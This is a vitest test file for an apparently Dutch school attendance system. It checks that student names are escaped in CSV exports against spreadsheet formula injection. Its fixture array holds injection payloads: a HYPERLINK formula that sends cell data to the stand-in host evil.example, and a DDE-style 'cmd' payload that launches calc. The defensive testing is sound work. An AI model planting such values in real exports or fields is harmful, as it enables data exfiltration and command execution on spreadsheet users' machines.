import { beforeAll, describe, expect, it } from 'vitest';
import { createReport } from '../../../functions/store/reports-repository';
import { putStudent } from '../../../functions/store/students';
import { createTask } from '../../../functions/store/tasks-repository';
import { parseCsv } from '../../support/csv';
import { addDays, report, useSeededApi } from './fixture';

const sys = useSeededApi();

/** Names a spreadsheet would run as a formula if a cell began with them. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A2,"klik")',
  '+cmd|"/C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
];
const TODAY = '2026-11-20';
const FAR = 4_102_444_800;

beforeAll(async () => {
  for (const [i, name] of FORMULAS.entries()) {
    const studentId = `s-x${i}`;
    await putStudent(
      sys.table,
      {
        studentId,
        displayName: name,
        email: `${studentId}@student.example`,
        birthDate: '2009-03-01',
        teamId: 'team-b',
        coachId: 'coach-b',
        level: '2',
        pathway: 'BOL',
        routeX: false,
        startQualification: false,
        enrolledFrom: '2025-08-18',
      },
      { version: 1, eventIds: [`evt-${studentId}`], expiresAt: FAR },
    );
    await createReport(sys.table, {
      ...report(`r-x${i}`, studentId, 'team-b', 'coach-b', addDays(TODAY, -2), TODAY),
      studentName: name,
    });
    await createTask(sys.table, {
      taskId: `t-duo-x${i}`,
      kind: 'duo_report',
      role: 'attendance_officer',
      studentId,
      studentName: name,
      teamId: 'team-b',
      status: 'open',
      createdOn: addDays(TODAY, -1),
      dueDate: addDays(TODAY, 5),
      explanation: 'DUO',
      duo: {
        studentId,
        studentName: name,
        type: '16_hours_in_4_weeks',
        addressee: 'lpa',
        from: addDays(TODAY, -25),
        to: addDays(TODAY, -7),
        absentDays: 6,
        absentHours: 16,
        absentMinutes: 960,
        suspectedReason: name,
        allLessonsMissed: false,
        actionTaken: '=1+1',
        reporter: { staffId: 'coach-b', name: 'Bram Coach', role: 'coach', email: 'bram@school.example' },
      },
      version: 1,
      expiresAt: FAR,
    });
  }
});

/** Every cell that a spreadsheet would read as a formula: starting with =, +, -, @, tab or CR. */
const formulaCells = (text: string, delimiter = ',') =>
  parseCsv(text, delimiter)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('CSV exports are safe to open in a spreadsheet', () => {
  it('escapes a student name that looks like a formula in the DUO export', async () => {
    const res = await sys.api.call('officer', 'GET', '/api/duo/export.csv');
    expect(res.status).toBe(200);
    // For Dutch Excel: a BOM, then `;`-separated cells.
    const text = res.text.replace(/^\uFEFF/, '');
    expect(formulaCells(text, ';')).toEqual([]);
    const cells = parseCsv(text, ';').flat();
    for (const name of FORMULAS) expect(cells).toContain(`'${name}`);
    expect(cells).toContain("'=1+1");
  });

  it('escapes a student name that looks like a formula in an overview CSV', async () => {
    const res = await sys.api.call('officer', 'GET', '/api/overviews/sixteen_hour/csv?unitId=team-b');
    expect(res.status).toBe(200);
    expect(formulaCells(res.text)).toEqual([]);
    const cells = parseCsv(res.text).flat();
    for (const name of FORMULAS) expect(cells).toContain(`'${name}`);
    // Numbers stay numbers: the minutes column is not escaped.
    expect(cells).toContain('960');
  });
});
